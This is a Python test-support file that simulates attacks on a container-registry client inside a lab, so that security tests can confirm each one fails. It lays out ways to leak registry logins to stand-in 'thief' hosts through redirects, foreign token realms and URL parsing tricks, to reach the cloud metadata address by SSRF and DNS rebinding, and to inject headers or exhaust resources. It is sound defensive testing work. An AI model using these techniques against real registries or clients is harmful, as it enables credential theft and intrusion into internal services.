"""Attacks on whoever asks a registry. Each takes a lab, does its worst, and says whether it succeeded.

The tests in ``tests/security`` expect each to fail; ``test_mutations.py`` takes one verification away at a time and
expects the matching attack to succeed, which proves that it is the verification that stops it.
"""

from __future__ import annotations

import gzip
import itertools
import json
from collections.abc import Iterator
from typing import Any

from snakemake_apptainer_freshness.errors import FreshnessError, TimedOut
from snakemake_apptainer_freshness.lockfile import Entry
from tests.support.lab import Lab, manifest
from tests.support.simulator import OCI_MANIFEST, Reply, Simulator, sha256

REPOSITORY = "team/tool"
MANIFESTS = f"/v2/{REPOSITORY}/manifests/"
METADATA = "169.254.169.254"
OCI_INDEX = "application/vnd.oci.image.index.v1+json"


def challenge(realm: str) -> Reply:
    """A 401 that wants a token from `realm`."""
    return Reply(status=401, headers=[("WWW-Authenticate", f'Bearer realm="{realm}",service="x"')])


def redirect(location: str) -> Reply:
    return Reply(status=307, headers=[("Location", location)])


def honest(lab: Lab, name: str = "registry.example", **options: Any) -> tuple[Simulator, str]:
    """A registry with one image, and the image's reference."""
    registry = lab.registry(name, **options)
    registry.publish(REPOSITORY, "1", manifest())
    return registry, f"docker://{registry.host}/{REPOSITORY}:1"


def with_login(lab: Lab, name: str = "registry.example") -> tuple[Simulator, str]:
    """A registry that wants a login, which the user has."""
    registry, reference = honest(lab, name, auth="basic", users={"alice": lab.password})
    lab.log_in(registry.host)
    return registry, reference


def redirect_who_logs_in(registry: Simulator, location: str) -> None:
    """Send everybody who has shown a login to `location`."""
    registry.answer(MANIFESTS, lambda request: redirect(location) if request.authorization else None)


# --- who gets the login --------------------------------------------------------------------------------------------


def credentials_to_a_foreign_realm(lab: Lab) -> bool:
    """CVE-2020-15157: the registry names somebody else's token service, which gets the registry's login."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    lab.log_in(registry.host)
    registry.answer(MANIFESTS, challenge(thief.url + "/token"))
    lab.ask(reference)
    return lab.saw_secret(thief)


def docker_hubs_token_service_by_prefix(lab: Lab) -> bool:
    """A token service whose name begins like Docker Hub's gets Docker Hub's login."""
    hub, _ = honest(lab, "registry-1.docker.io")
    thief = lab.registry("auth.docker.io.evil.example")
    lab.log_in("https://index.docker.io/v1/")
    hub.answer(MANIFESTS, challenge(thief.url + "/token"))
    lab.ask(f"docker://docker.io/{REPOSITORY}:1")
    return bool(thief.requests) and lab.saw_secret(thief)


def docker_io_evil_example_looked_up_by_prefix(lab: Lab) -> bool:
    """A registry whose name begins like Docker Hub's gets Docker Hub's login."""
    registry, reference = honest(lab, "docker.io.evil.example", auth="basic", users={"alice": lab.password})
    lab.log_in("https://index.docker.io/v1/", "docker.io")
    lab.ask(reference)
    return lab.saw_secret(registry)


def credentials_through_a_redirect_to_another_host(lab: Lab) -> bool:
    """The registry's login is sent to where a redirect leads."""
    registry, reference = with_login(lab)
    thief = lab.registry("thief.example")
    redirect_who_logs_in(registry, f"{thief.url}/v2/x")
    lab.ask(reference)
    return lab.saw_secret(thief)


def credentials_through_a_redirect_to_another_port(lab: Lab) -> bool:
    """The same host name, another port: on a shared machine, another user."""
    registry, reference = with_login(lab)
    thief = lab.registry("thief.example")
    lab.at(lab.names["registry.example"][0], thief, port=8443)
    redirect_who_logs_in(registry, "https://registry.example:8443/v2/x")
    lab.ask(reference)
    return lab.saw_secret(thief)


def credentials_through_a_redirect_to_another_scheme(lab: Lab) -> bool:
    """From https to http on the same host: the login goes over the wire in clear."""
    return _downgrade(lab)[1]


def redirect_downgraded_to_http(lab: Lab) -> bool:
    """From https to http: whoever sits on the wire answers in the registry's place."""
    return _downgrade(lab)[0]


def _downgrade(lab: Lab) -> tuple[bool, bool]:
    """Whether the plain server was asked, and whether it saw the login."""
    registry, reference = with_login(lab)
    wiretap = lab.registry("wiretap.example", tls=False)
    del lab.environ["APPTAINER_NOHTTPS"]
    lab.at(lab.names["registry.example"][0], wiretap, port=80)
    redirect_who_logs_in(registry, "http://registry.example/v2/x")
    lab.ask(reference)
    return bool(wiretap.requests), lab.saw_secret(wiretap)


def challenge_answered_after_a_redirect(lab: Lab) -> bool:
    """What the redirect leads to asks for a login, with a realm of its own that nobody would suspect."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    lab.log_in(registry.host, thief.host)
    registry.answer(MANIFESTS, redirect(f"{thief.url}/v2/x"))
    thief.answer("/v2/", challenge(thief.url + "/token"))
    lab.ask(reference)
    return lab.saw_secret(thief) or bool(thief.asked("/token"))


def realm_downgraded_to_http(lab: Lab) -> bool:
    """An https registry wants the login sent to its own host by http."""
    registry, reference = honest(lab)
    wiretap = lab.registry("wiretap.example", tls=False)
    del lab.environ["APPTAINER_NOHTTPS"]
    lab.at(lab.names["registry.example"][0], wiretap, port=80)
    lab.log_in(registry.host)
    registry.answer(MANIFESTS, challenge("http://registry.example/token"))
    lab.ask(reference)
    return bool(wiretap.requests)


def redirect_of_a_token_request(lab: Lab) -> bool:
    """The token service, which may see the login, passes it on."""
    registry, reference = honest(lab, auth="token", users={"alice": lab.password})
    thief = lab.registry("thief.example")
    lab.log_in(registry.host)
    registry.answer("/token", redirect(thief.url + "/token"))
    lab.ask(reference)
    return bool(thief.requests)


def user_information_in_a_location(lab: Lab) -> bool:
    """``https://registry.example@thief.example/``: one program's user name is another one's host."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    registry.answer(MANIFESTS, redirect(f"https://{registry.host}@{thief.host}/v2/x"))
    lab.ask(reference)
    return bool(thief.requests)


def user_information_in_a_realm(lab: Lab) -> bool:
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    registry.answer(MANIFESTS, challenge(f"https://{registry.host}@{thief.host}/token"))
    lab.ask(reference)
    return bool(thief.requests)


def backslash_in_a_location(lab: Lab) -> bool:
    r"""``https://thief.example\@registry.example/``: browsers see one host, RFC 3986 the other."""
    registry, reference = honest(lab)
    thief = lab.registry("thief.example")
    registry.answer(MANIFESTS, redirect(f"https://{thief.host}\\@{registry.host}/v2/x"))
    lab.ask(reference)
    return bool(thief.requests) or len(registry.asked("/v2/x")) > 0


# --- where it is sent ----------------------------------------------------------------------------------------------


def _metadata_service(lab: Lab, host: str, *addresses: str) -> Simulator:
    """A metadata service that speaks the registry's protocol, at `addresses`."""
    service = lab.registry("service.example", tls=False)
    service.publish(REPOSITORY, "1", manifest())
    for address in addresses:
        lab.at(address, service)
    if host not in addresses:
        lab.names[host] = list(addresses)
    return service


def metadata_address_as_literal(lab: Lab) -> bool:
    service = _metadata_service(lab, METADATA, METADATA)
    lab.ask(f"docker://{METADATA}/{REPOSITORY}:1")
    return bool(service.requests)


def metadata_address_mapped(lab: Lab) -> bool:
    """``::ffff:169.254.169.254`` is the same machine."""
    service = _metadata_service(lab, "::ffff:a9fe:a9fe", "::ffff:a9fe:a9fe", "::ffff:169.254.169.254")
    lab.ask(f"docker://[::ffff:a9fe:a9fe]:80/{REPOSITORY}:1")
    return bool(service.requests)


def metadata_address_by_dns_name(lab: Lab) -> bool:
    """A public name whose owner points it at the metadata service."""
    service = _metadata_service(lab, "innocent.example", METADATA)
    lab.ask(f"docker://innocent.example/{REPOSITORY}:1")
    return bool(service.requests)


def metadata_address_mapped_by_dns_name(lab: Lab) -> bool:
    service = _metadata_service(lab, "innocent.example", "::ffff:169.254.169.254")
    lab.ask(f"docker://innocent.example/{REPOSITORY}:1")
    return bool(service.requests)


def metadata_address_as_realm(lab: Lab) -> bool:
    registry, reference = honest(lab, tls=False)
    service = _metadata_service(lab, "innocent.example", METADATA)
    registry.answer(MANIFESTS, challenge("http://innocent.example/latest/meta-data"))
    lab.ask(reference)
    return bool(service.requests)


def metadata_address_as_redirect(lab: Lab) -> bool:
    registry, reference = honest(lab, tls=False)
    service = _metadata_service(lab, METADATA, METADATA)
    registry.answer(MANIFESTS, redirect(f"http://{METADATA}/latest/meta-data"))
    lab.ask(reference)
    return bool(service.requests)


def private_realm_of_a_public_registry(lab: Lab) -> bool:
    """A public registry uses us to knock at a machine inside the institution."""
    registry, reference = honest(lab)
    inside = lab.registry("inside.test", public=False)
    registry.answer(MANIFESTS, challenge(inside.url + "/token"))
    lab.ask(reference)
    return bool(inside.requests)


def private_redirect_of_a_public_registry(lab: Lab) -> bool:
    registry, reference = honest(lab)
    inside = lab.registry("inside.test", public=False)
    registry.answer(MANIFESTS, redirect(inside.url + "/v2/x"))
    lab.ask(reference)
    return bool(inside.requests)


def name_that_changes_between_check_and_connection(lab: Lab) -> bool:
    """DNS rebinding: the first look-up is harmless, the second leads to the metadata service."""
    _, reference = honest(lab, tls=False)
    service = _metadata_service(lab, METADATA, METADATA)
    harmless = list(lab.names["registry.example"])
    answers = itertools.cycle([harmless, [METADATA]])
    lab.names["registry.example"] = _Changing(answers)
    lab.ask(reference)
    return bool(service.requests)


class _Changing(list[str]):
    """Another list each time that somebody looks."""

    def __init__(self, answers: Iterator[list[str]]) -> None:
        super().__init__()
        self._answers = answers

    def __iter__(self) -> Any:
        return iter(next(self._answers))


# --- what is believed ----------------------------------------------------------------------------------------------


def _pinned_to(answer: Entry | FreshnessError, digest: str) -> bool:
    return isinstance(answer, Entry) and answer.digest == digest


def header_digest_with_other_bytes(lab: Lab) -> bool:
    """HEAD says D, and GET of D serves something else."""
    registry, reference = honest(lab)
    promised = sha256(manifest())
    registry.answer(MANIFESTS + promised, Reply(headers=[("Content-Type", OCI_MANIFEST)], body=manifest(666)))
    return _pinned_to(lab.ask(reference), promised)


def header_digest_with_other_bytes_at_get(lab: Lab) -> bool:
    """No digest at HEAD; at GET the header says D and the body is something else."""
    registry, reference = honest(lab)
    promised = sha256(manifest())
    registry.answer(MANIFESTS, Reply(headers=[("Content-Type", OCI_MANIFEST)]), method="HEAD")
    registry.answer(
        MANIFESTS,
        Reply(headers=[("Content-Type", OCI_MANIFEST), ("Docker-Content-Digest", promised)], body=manifest(666)),
        method="GET",
    )
    return isinstance(lab.ask(reference), Entry)


def moved_tag_that_is_no_image(lab: Lab) -> bool:
    """A check believes a digest that nobody serves: a false alarm that would make people update."""
    registry, reference = honest(lab)
    entry = lab.ask(reference)
    assert isinstance(entry, Entry)
    lie = f"sha256:{'6' * 64}"
    registry.answer(MANIFESTS + "1", Reply(headers=[("Docker-Content-Digest", lie)]), method="HEAD")
    registry.answer(MANIFESTS + lie, Reply(headers=[("Content-Type", OCI_MANIFEST)], body=manifest(666)))
    return lab.check(entry).digest == lie


def manifest_and_index_at_once(lab: Lab) -> bool:
    """CVE-2021-41190: one program sees an image, another one an index."""
    registry, reference = honest(lab)
    registry.publish(REPOSITORY, "1", manifest(manifests=[]))
    return isinstance(lab.ask(reference), Entry)


def media_type_that_contradicts_the_header(lab: Lab) -> bool:
    registry, reference = honest(lab)
    registry.publish(REPOSITORY, "1", manifest(), OCI_INDEX)
    return isinstance(lab.ask(reference), Entry)


def digest_as_a_path(lab: Lab) -> bool:
    """``sha256:../../x`` as digest: asked for by whoever believes the header."""
    registry, reference = honest(lab)
    for digest in ("sha256:../../../token", "sha256:" + "A" * 64, "sha256:" + "a" * 63, "../../x"):
        registry.answer(MANIFESTS + "1", Reply(headers=[("Docker-Content-Digest", digest)]), method="HEAD", times=1)
        lab.ask(reference)
    return any(request.path not in _EXPECTED for request in registry.requests)


_EXPECTED = {MANIFESTS + "1", MANIFESTS + sha256(manifest())}

HOSTILE_JSON = {
    "deep nesting": b"[" * 100_000,
    "duplicate keys": manifest()[:-1] + b', "layers": []}',
    "NaN": manifest()[:-1] + b', "x": NaN}',
    "lone surrogate": manifest()[:-1] + b', "annotations": {"a": "\\ud800"}}',
    "huge number": manifest()[:-1] + b', "x": ' + b"9" * 100_000 + b"}",
    "negative size": manifest(config={"mediaType": "a/b", "digest": f"sha256:{0:064x}", "size": -1}),
    "size that is no integer": manifest(config={"mediaType": "a/b", "digest": f"sha256:{0:064x}", "size": 1.5}),
    "absurd size": manifest(config={"mediaType": "a/b", "digest": f"sha256:{0:064x}", "size": 1 << 62}),
    "not an object": b"[]",
    "not UTF-8": b"\xff\xfe{}",
    "empty": b"",
}


def hostile_json(lab: Lab, body: bytes) -> bool:
    registry, reference = honest(lab)
    registry.publish(REPOSITORY, "1", body)
    return isinstance(lab.ask(reference), Entry)


# --- what it costs -------------------------------------------------------------------------------------------------


def endless_body(lab: Lab) -> bool:
    """A manifest that never ends: memory fills up."""
    registry, reference = honest(lab)
    sent = []

    def pieces() -> Iterator[bytes]:
        for _ in range(500):
            sent.append(65536)
            yield b"x" * 65536

    headers = [("Content-Type", OCI_MANIFEST)]
    registry.answer(MANIFESTS, lambda _: Reply(headers=headers, chunks=pieces()), method="GET")
    lab.ask(reference)
    return sum(sent) > 24 * 1024 * 1024


def announced_size_beyond_the_limit(lab: Lab) -> bool:
    """A length that nobody would want to read, said in advance: reading starts nevertheless."""
    registry, reference = honest(lab)
    registry.answer(MANIFESTS, Reply(body=b"x" * 1000, length=1 << 40), method="GET")
    answer = lab.ask(reference)
    return not (isinstance(answer, FreshnessError) and "announced" in answer.message)


def slow_drip(lab: Lab) -> bool:
    """A byte now and then, always before the read timeout: the whole never comes, and nobody gives up."""
    registry, reference = honest(lab)
    registry.answer(MANIFESTS, Reply(body=b"x" * 30, pause=0.03), method="GET")
    return not isinstance(lab.ask(reference), TimedOut)


def gzip_bomb(lab: Lab) -> bool:
    """A small answer that unpacks to a large one."""
    registry, reference = honest(lab)
    bomb = gzip.compress(manifest())
    headers = [("Content-Type", OCI_MANIFEST), ("Content-Encoding", "gzip")]
    registry.answer(MANIFESTS, Reply(headers=headers, body=bomb), method="GET")
    answer = lab.ask(reference)
    return not (isinstance(answer, FreshnessError) and "compressed" in answer.message)


def endless_redirects(lab: Lab) -> bool:
    registry, reference = honest(lab)
    registry.answer("/v2/", lambda request: redirect(request.path + "x"), times=60)
    lab.ask(reference)
    return len(registry.requests) > 50


def endless_pagination(lab: Lab) -> bool:
    """The list of tags always has another page."""
    registry, reference = honest(lab)
    page = json.dumps({"tags": ["2"]}).encode()
    link = ("Link", f'</v2/{REPOSITORY}/tags/list?n=1&last=2>; rel="next"')
    registry.answer(f"/v2/{REPOSITORY}/tags/", Reply(headers=[link], body=page))
    lab.ask(reference.removesuffix("1") + "3")
    return len(registry.asked(f"/v2/{REPOSITORY}/tags/")) != 1


def enormous_token(lab: Lab) -> bool:
    registry, reference = honest(lab, auth="token")
    registry.answer("/token", Reply(body=json.dumps({"token": "x" * 200_000}).encode()))
    lab.ask(reference)
    return any(len(request.authorization) > 100_000 for request in registry.requests)


def token_with_a_line_break(lab: Lab) -> bool:
    """A token that would end the header and begin another one."""
    registry, reference = honest(lab, auth="token")
    registry.answer("/token", Reply(body=json.dumps({"token": "x\r\nX-Evil: 1"}).encode()))
    answer = lab.ask(reference)
    sent = any("x-evil" in request.headers for request in registry.requests)
    return sent or not (isinstance(answer, FreshnessError) and "no usable token" in answer.message)


def helper_that_hangs(lab: Lab) -> bool:
    lab.helper("slow", "exec sleep 1")
    answer = _ask_with_helper(lab, "slow")
    return not (isinstance(answer, FreshnessError) and "took more than" in answer.message)


def helper_that_floods(lab: Lab) -> bool:
    lab.helper("flood", "exec cat /dev/zero")
    answer = _ask_with_helper(lab, "flood")
    return not (isinstance(answer, FreshnessError) and "wrote more than" in answer.message)


def _ask_with_helper(lab: Lab, name: str) -> Entry | FreshnessError:
    registry, reference = honest(lab, auth="basic", users={"alice": lab.password})
    lab.write_logins({"credHelpers": {registry.host: name}})
    return lab.ask(reference)
